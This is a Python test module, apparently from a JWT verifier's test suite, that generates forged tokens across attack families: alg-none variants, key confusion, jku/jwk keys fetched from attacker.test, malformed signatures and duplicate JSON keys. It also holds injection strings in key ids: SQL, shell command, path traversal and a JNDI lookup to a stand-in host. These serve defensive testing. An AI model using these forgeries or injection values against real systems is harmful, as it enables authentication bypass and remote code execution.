"""What somebody without a right may send instead of a token, family by family."""

import json
from base64 import urlsafe_b64decode
from collections.abc import Iterator, Mapping
from itertools import product
from typing import Any

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature

from tests.doors.forging import (
    HEADER,
    KID,
    NOW,
    ORDER,
    Attack,
    b64,
    ecdsa,
    ed25519_signed,
    es256,
    foreign,
    foreign_jwk,
    hs,
    ours,
    part,
    public_secrets,
    rsa_signed,
    said,
)  # fmt: skip

GOOD = es256(HEADER, said())


def unsigned() -> Iterator[Attack]:
    """`none` in all spellings, with no signature, a made-up one, and a real one."""
    spellings = ["".join(letters) for letters in product(*(f"{each}{each.upper()}" for each in "none"))]
    odd = [
        "",
        " none",
        "none ",
        "none\n",
        "nоne",
        None,
        0,
        False,
        [],
        ["none"],
        {"alg": "none"},
        "null",
        "HS0",
    ]
    signature = GOOD.rpartition(".")[2]
    for alg in (*spellings, *odd):
        head = f"{part({**HEADER, 'alg': alg})}.{part(said())}"
        yield Attack(f"alg {alg!r}, no signature", f"{head}.")
        yield Attack(f"alg {alg!r}, our signature", f"{head}.{signature}")
    missing = f"{part({'typ': 'at+jwt', 'kid': KID})}.{part(said())}"
    yield Attack("no alg, no signature", f"{missing}.")
    yield Attack("no alg, our signature", f"{missing}.{signature}")
    yield Attack("alg none without a last dot", f"{part({**HEADER, 'alg': 'none'})}.{part(said())}")


def confused() -> Iterator[Attack]:
    """The public key used as a shared secret, and every other algorithm under our key id."""
    for digest, (name, secret) in product(("256", "384", "512"), public_secrets().items()):
        header = {**HEADER, "alg": f"HS{digest}"}
        yield Attack(f"HS{digest} with {name}", hs(header, said(), secret, f"sha{digest}"))
    for name, secret in public_secrets().items():
        yield Attack(f"ES256 said, HMAC with {name}", hs(HEADER, said(), secret))
    for alg in ("RS256", "RS384", "RS512", "PS256", "PS384", "PS512"):
        yield Attack(f"{alg} with a key of one's own", rsa_signed(alg, said()))
    for alg in ("EdDSA", "Ed25519", "Ed448"):
        yield Attack(f"{alg} with a key of one's own", ed25519_signed({**HEADER, "alg": alg}, said()))
    for alg, curve, digest_of in (
        ("ES384", ec.SECP384R1(), hashes.SHA384()),
        ("ES512", ec.SECP521R1(), hashes.SHA512()),
        ("ES256K", ec.SECP256K1(), hashes.SHA256()),
    ):
        signed = f"{part({**HEADER, 'alg': alg})}.{part(said())}"
        key = ec.generate_private_key(curve)
        yield Attack(f"{alg} with a key of one's own", f"{signed}.{b64(ecdsa(signed, key, digest_of))}")
    for said_alg in (
        "es256",
        "Es256",
        "ES256 ",
        "ECDSA",
        "ES-256",
        "RS256",
        "HS256",
        "EdDSA",
        ["ES256"],
        256,
    ):
        yield Attack(f"our signature under alg {said_alg!r}", es256({**HEADER, "alg": said_alg}, said()))


def embedded() -> Iterator[Attack]:
    """A key of one's own, brought along in the header or fetched from a place of one's own."""
    place = "https://attacker.test/keys.json"
    symmetric = {"kty": "oct", "k": b64(b"x" * 32), "kid": KID}
    carried: list[tuple[str, dict[str, Any]]] = [
        ("jwk", {"jwk": foreign_jwk()}),
        ("jwk with our kid", {"jwk": {**foreign_jwk(), "kid": KID}}),
        ("symmetric jwk", {"jwk": symmetric}),
        ("jku", {"jku": place}),
        ("jku of a file", {"jku": "file:///dev/null"}),
        ("x5u", {"x5u": place}),
        ("x5c", {"x5c": ["MIIB"]}),
        ("x5t", {"x5t": b64(b"0" * 20)}),
        ("x5t#S256", {"x5t#S256": b64(b"0" * 32)}),
        ("keys", {"keys": [foreign_jwk()]}),
    ]
    for (name, more), kid in product(carried, (KID, "attacker-1", foreign_jwk().get("kid", "2"))):
        header = {**HEADER, **more, "kid": kid}
        yield Attack(f"{name}, kid {kid}, foreign key", es256(header, said(), foreign()))
    for name, more in carried:
        header = {**HEADER, **more}
        yield Attack(f"{name}, HMAC with it", hs({**header, "alg": "HS256"}, said(), b"x" * 32))
        yield Attack(f"{name} beside our own signature", es256(header, said()))


KIDS: tuple[Any, ...] = (
    "", " ", "test-2", "TEST-1", "test-1 ", " test-1", "test-1\n", "test-1\x00", "tеst-1", "test‐1",
    "../../../../dev/null", "/dev/null", "file:///dev/null", "C:\\windows\\win.ini", "..%2f..%2fkey",
    "' OR '1'='1", "x' UNION SELECT 'secret';--", "test-1'--", "| sleep 9", "$(sleep 9)", "`id`",
    "${jndi:ldap://attacker.test/a}", "{{7*7}}", "http://attacker.test/key", "*", "%", "__proto__", "0",
    "x" * 4000,
    0, 1, -1, 1.5, True, False, None, [], ["test-1"], {}, {"$ne": None}, {"kid": "test-1"},
)  # fmt: skip


def named_wrongly() -> Iterator[Attack]:
    """Key ids that are not ours: paths, queries, commands, look-alikes, other types."""
    for kid in KIDS:
        yield Attack(f"kid {str(kid)[:30]!r}, foreign key", es256({**HEADER, "kid": kid}, said(), foreign()))
        yield Attack(f"kid {str(kid)[:30]!r}, our key", es256({**HEADER, "kid": kid}, said()))
    for secret in (b"", b"\x00"):
        header = {**HEADER, "alg": "HS256", "kid": "/dev/null"}
        yield Attack(f"kid /dev/null, HMAC with {secret!r}", hs(header, said(), secret))
    yield Attack("no kid", es256({"alg": "ES256", "typ": "at+jwt"}, said()))


TYPES: tuple[Any, ...] = (
    "JWT", "jwt", "at", "at+JWT ", " at+jwt", "at+jwt;v=1", "id+jwt", "dpop+jwt", "logout+jwt",
    "secevent+jwt",
    "JOSE", "", None, 0, True, [], ["at+jwt"], {"typ": "at+jwt"},
)  # fmt: skip
CRITICAL: tuple[dict[str, Any], ...] = (
    {"crit": ["exp"]}, {"crit": ["exp"], "exp": NOW}, {"crit": ["b64"], "b64": True},
    {"crit": ["b64"], "b64": False}, {"b64": False}, {"b64": True}, {"crit": []}, {"crit": "exp"},
    {"crit": None},
    {"crit": ["alg"]}, {"crit": ["kid", "typ"]}, {"crit": [1]}, {"crit": ["http://attacker.test/x"]},
    {"crit": {}}, {"cty": "JWT"}, {"zip": "DEF"}, {"enc": "A256GCM"}, {"nonce": "n"}, {"alg ": "none"},
)  # fmt: skip


def headed_wrongly() -> Iterator[Attack]:
    """Another kind of token, or one that demands what we do not understand: all signed with our key."""
    for typ in TYPES:
        yield Attack(f"typ {typ!r}", es256({**HEADER, "typ": typ}, said()))
    yield Attack("no typ", es256({"alg": "ES256", "kid": KID}, said()))
    for more in CRITICAL:
        yield Attack(f"header with {more}", es256({**HEADER, **more}, said()))
    raw = f"{part({**HEADER, 'b64': False, 'crit': ['b64']})}.{json.dumps(said())}"
    yield Attack("payload not encoded (RFC 7797)", f"{raw}.{b64(ecdsa(raw, ours()))}")
    detached = GOOD.split(".")
    yield Attack("payload detached", f"{detached[0]}..{detached[2]}")


def doubled() -> Iterator[Attack]:
    """JSON that two readers read differently."""
    header, body = json.dumps(HEADER), json.dumps(said())
    first = {
        "alg": '{"alg":"none",' + header[1:], "alg after": header[:-1] + ',"alg":"ES256"}',
        "kid": '{"kid":"attacker-1",' + header[1:], "typ": '{"typ":"JWT",' + header[1:],
    }  # fmt: skip
    for name, text in first.items():
        yield Attack(f"{name} twice in the header", es256(text, body))
    for name, value in {
        "sub": "x", "aud": "other", "iss": "http://attacker.test", "exp": NOW + 9, "roles": [], "nbf": 0,
    }.items():  # fmt: skip
        yield Attack(
            f"{name} twice in the claims", es256(HEADER, f'{{"{name}":{json.dumps(value)},{body[1:]}')
        )
    yield Attack("a comment", es256(HEADER, body[:-1] + "/* x */}"))
    yield Attack("a trailing comma", es256(HEADER, body[:-1] + ",}"))
    yield Attack("two objects", es256(HEADER, body + body))
    yield Attack("a BOM before the claims", es256(HEADER, "\ufeff" + body))
    yield Attack("a BOM before the header", es256("\ufeff" + header, body))
    for coding in ("utf-16", "utf-32", "utf-16-be"):
        signed = f"{b64(header.encode(coding))}.{b64(body.encode(coding))}"
        yield Attack(f"written in {coding}", f"{signed}.{b64(ecdsa(signed, ours()))}")
    signed = f"{part(HEADER)}.{b64(body.replace('customer', 'c').encode() + bytes([0xFF]))}"
    yield Attack("claims that are no UTF-8", f"{signed}.{b64(ecdsa(signed, ours()))}")


NOT_CLAIMS: Mapping[str, str] = {
    "nothing": "", "null": "null", "true": "true", "a number": "5", "a text": '"x"', "a list": "[]",
    "an empty object": "{}", "broken": "{", "a nested token": json.dumps(GOOD), "a bare token": GOOD,
    "form data": "sub=x&aud=oppna-sesam", "xml": "<a/>", "deep lists": "[" * 1500 + "]" * 1500,
    "deep objects": '{"a":' * 900 + "1" + "}" * 900, "a huge number": '{"exp":1' + "0" * 5000 + "}",
}  # fmt: skip


def shaped_wrongly() -> Iterator[Attack]:
    """Headers and claims that are no objects, nested tokens, encrypted ones, other serializations."""
    for name, text in NOT_CLAIMS.items():
        yield Attack(f"claims are {name}", es256(HEADER, text))
        yield Attack(f"header is {name}", es256(text, said()))
    yield Attack("nested, cty JWT", es256({**HEADER, "cty": "JWT"}, GOOD))
    head, body, signature = GOOD.split(".")
    flat = {"protected": head, "payload": body, "signature": signature}
    yield Attack("flattened JSON", json.dumps(flat))
    yield Attack("general JSON", json.dumps({"payload": body, "signatures": [flat]}))
    for alg in ("dir", "ECDH-ES", "RSA-OAEP", "A128KW", "PBES2-HS256+A128KW"):
        encrypted = part({**HEADER, "alg": alg, "enc": "A128GCM", "p2c": 10**9})
        yield Attack(
            f"encrypted, {alg}", ".".join([encrypted, "", b64(b"i" * 12), b64(GOOD.encode()), b64(b"t" * 16)])
        )


def garbled() -> Iterator[Attack]:
    """The good token cut, bent, doubled and written in other alphabets."""
    yield from cut_and_bent()
    yield from rearranged()
    for size in (9_000, 70_000, 1_000_000):
        yield Attack(f"{size} letters", "x" * size)
        yield Attack(f"well signed but {size} letters", es256(HEADER, said(name="x" * size)))
    yield Attack("500 parts of a token", ".".join([GOOD.partition(".")[0]] * 500))


def cut_and_bent() -> Iterator[Attack]:
    """The good token with letters missing or changed."""
    for at in range(0, len(GOOD), max(1, len(GOOD) // 40)):
        yield Attack(f"cut at {at}", GOOD[:at])
    for at in range(3, len(GOOD), max(1, len(GOOD) // 60)):
        if GOOD[at] != ".":
            yield Attack(f"bent at {at}", GOOD[:at] + ("A" if GOOD[at] != "A" else "B") + GOOD[at + 1 :])
    head, body, signature = GOOD.split(".")
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    for bits in (1, 2, 3):
        last = alphabet[alphabet.index(signature[-1]) | bits]
        yield Attack(f"the last letter's unused bits are {bits}", f"{head}.{body}.{signature[:-1]}{last}")


def rearranged() -> Iterator[Attack]:
    """The good token's parts in another order, and in other alphabets."""
    head, body, signature = GOOD.split(".")
    shuffled = {
        "swapped": f"{body}.{head}.{signature}", "header twice": f"{head}.{head}.{signature}",
        "no header": f".{body}.{signature}", "no claims": f"{head}..{signature}",
        "no signature": f"{head}.{body}.",
        "two parts": f"{head}.{body}", "four parts": f"{GOOD}.{signature}",
        "five parts": f"{GOOD}.{body}.{head}",
        "dots only": "..", "many dots": "." * 500, "dot first": f".{GOOD}", "dot last": f"{GOOD}.",
        "space inside": f"{head} .{body}.{signature}", "newline inside": f"{head}.{body}\n.{signature}",
        "NUL last": f"{GOOD}\x00", "newline last": f"{GOOD}\n", "tab last": f"{GOOD}\t",
        "padded": f"{GOOD}==",
        "header padded": f"{head}=.{body}.{signature}", "other alphabet": f"{head}.{body}+/.{signature}",
        "quoted": f'"{GOOD}"', "in brackets": f"<{GOOD}>", "percent": GOOD.replace(".", "%2E"),
        "wide dots": GOOD.replace(".", "\u3002"), "wide letter": "\uff45" + GOOD[1:],
        "soft hyphen": f"{GOOD}\u00ad",
        "right to left": f"\u202e{GOOD}", "emoji": f"{GOOD}\U0001f511", "twice": GOOD + GOOD,
        "two, a comma": f"{GOOD},{GOOD}",
        "null": "null", "undefined": "undefined", "object": "[object Object]", "nothing": "",
        "one letter": "x",
    }  # fmt: skip
    for name, token in shuffled.items():
        yield Attack(name, token)


def signed_wrongly() -> Iterator[Attack]:
    """Signatures that a careless verifier takes for good ones."""
    head, body, signature = GOOD.split(".")
    raw = urlsafe_b64decode(signature + "==")
    r, s = int.from_bytes(raw[:32], "big"), int.from_bytes(raw[32:], "big")
    other = es256(HEADER, said(sub="somebody-else")).rpartition(".")[2]
    forged = {
        "zeros": bytes(64), "r is zero": bytes(32) + raw[32:], "s is zero": raw[:32] + bytes(32),
        "r and s are one": (1).to_bytes(32, "big") * 2,
        "r and s are the order": ORDER.to_bytes(32, "big") * 2,
        "r plus the order": ((r + ORDER) % 2**256).to_bytes(32, "big") + raw[32:], "all ones": b"\xff" * 64,
        "swapped": raw[32:] + raw[:32], "one byte short": raw[:-1], "one byte more": raw + b"\x00",
        "as DER": encode_dss_signature(r, s), "half": raw[:32], "doubled": raw + raw, "one byte": b"\x00",
    }  # fmt: skip
    for name, made in forged.items():
        yield Attack(f"signature {name}", f"{head}.{body}.{b64(made)}")
    yield Attack("signature of another token", f"{head}.{body}.{other}")
    yield Attack("signature over the claims only", f"{head}.{body}.{b64(ecdsa(body, ours()))}")
    yield Attack("signature over the header only", f"{head}.{body}.{b64(ecdsa(head, ours()))}")
    for changed in ({"roles": ["operator"]}, {"sub": "x"}, {"care_units": ["DEMO-102"]}, {"exp": NOW + 599}):
        yield Attack(f"our signature, but {changed}", f"{head}.{part(said(**changed))}.{signature}")
    yield Attack("signed by another issuer under our key id", es256(HEADER, said(), foreign()))
    elsewhere = said(iss="https://another-issuer.test")
    yield Attack("another issuer's own token", es256({**HEADER, "kid": "theirs"}, elsewhere, foreign()))
    yield Attack("another issuer's token under our key id", es256(HEADER, elsewhere, foreign()))
